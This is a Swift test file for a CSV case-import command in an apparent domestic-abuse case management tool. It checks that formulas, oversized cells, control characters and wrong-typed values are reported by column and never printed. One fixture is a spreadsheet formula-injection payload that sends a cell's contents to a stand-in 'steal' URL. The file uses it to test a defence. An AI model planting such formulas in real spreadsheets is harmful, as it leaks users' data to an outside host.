import Foundation
import XCTest

/// Cells a spreadsheet should not hold (formulas, megabyte cells, invisible control codes)
/// are problems of their row, named by column; the import never crashes and never prints them.
final class ImportHostileCellTests: XCTestCase {
    private func importing(_ rows: [[String]], extra: [String] = []) throws -> (CommandResult, URL) {
        let root = try ImportFixtures.demo(with: [
            "cases.csv": ImportFixtures.csv([ImportFixtures.caseHeader] + rows), "map.toml": ImportFixtures.caseMap,
        ])
        let result = try ImportFixtures.mfile(["import", "cases", "import/cases.csv", "--map", "import/map.toml"] + extra, in: root)
        return (result, root)
    }

    func testAFormulaIsAProblemOfItsColumnAndIsNeverPrinted() throws {
        let formula = "=HYPERLINK(\"http://example.invalid/steal?x=\"&A1,\"Click here\")"
        let (result, root) = try importing([ImportFixtures.caseRow("SB-1", name: formula)], extra: ["--apply"])
        defer { try? FileManager.default.removeItem(at: root) }
        XCTAssertEqual(result.status, 1, result.stderr)
        XCTAssertTrue(result.stdout.contains("row 2: problem: column \"Victim\" (victim.name): the cell holds a spreadsheet formula"), result.stdout)
        XCTAssertFalse((result.stdout + result.stderr).contains("HYPERLINK"))
        XCTAssertFalse((result.stdout + result.stderr).contains("example.invalid"))
        let demo = try ImportFixtures.snapshot(DemoRepository.root)
        XCTAssertEqual(try ImportFixtures.snapshot(root), demo, "nothing was written")
    }

    func testAMegabyteCellIsAProblemAndTheOtherRowsAreStillReported() throws {
        let huge = String(repeating: "CANARYBIG ", count: 110_000)  // 1.1 MB
        let (result, root) = try importing([
            ImportFixtures.caseRow("SB-1", notes: huge),  // Notes is not imported, but still bounded
            ImportFixtures.caseRow("SB-2", name: huge),
            ImportFixtures.caseRow("SB-3", name: "Maja Novak", perpetrator: "Tomas Horvat"),
        ])
        defer { try? FileManager.default.removeItem(at: root) }
        XCTAssertEqual(result.status, 1, result.stderr)
        XCTAssertTrue(result.stdout.contains("row 2: create case"), result.stdout)
        XCTAssertTrue(result.stdout.contains("row 3: problem: column \"Victim\" (victim.name): the cell holds more than 64 KB of text"), result.stdout)
        XCTAssertTrue(result.stdout.contains("row 4: create case"), result.stdout)
        XCTAssertFalse((result.stdout + result.stderr).contains("CANARYBIG"))
    }

    func testControlCharactersAreAProblem() throws {
        for code in ["\u{0}", "\u{7}", "\u{1B}[31m", "\u{7F}", "\u{85}"] {
            let (result, root) = try importing([ImportFixtures.caseRow("SB-1", perpetrator: "Oskar\(code)Brandt")])
            defer { try? FileManager.default.removeItem(at: root) }
            XCTAssertEqual(result.status, 1, result.stderr)
            XCTAssertTrue(result.stdout.contains("row 2: problem: column \"Perpetrator\" (perpetrator[1].name): the cell holds control characters"), result.stdout)
            XCTAssertFalse(result.stdout.contains("Oskar"), result.stdout)
        }
    }

    func testWordsInNumberDateAndChoiceColumnsAreProblemsNamingTheColumn() throws {
        var row = ImportFixtures.caseRow("SB-1")
        row[11] = "high"          // DASH
        row[4] = "unknown"        // Victim DOB
        row[2] = "Neighbourhood"  // Agency
        row[10] = "Lodger"        // Relationship
        let (result, root) = try importing([row])
        defer { try? FileManager.default.removeItem(at: root) }
        XCTAssertEqual(result.status, 1)
        for expected in [
            "column \"DASH\" (referral[1].risk_score): not a whole number",
            "column \"Victim DOB\" (victim.dob): not a date written dd/mm/yyyy",
            "column \"Agency\" (referral[1].agency): names no agency of marac.toml",
            "column \"Relationship\" (perpetrator[1].relationship): not one of partner, ex-partner",
        ] {
            XCTAssertTrue(result.stdout.contains(expected), "\(expected)\n\(result.stdout)")
        }
        for value in ["high", "unknown", "Neighbourhood", "Lodger"] {
            XCTAssertFalse(result.stdout.contains(value) || result.stderr.contains(value), value)
        }
    }
}
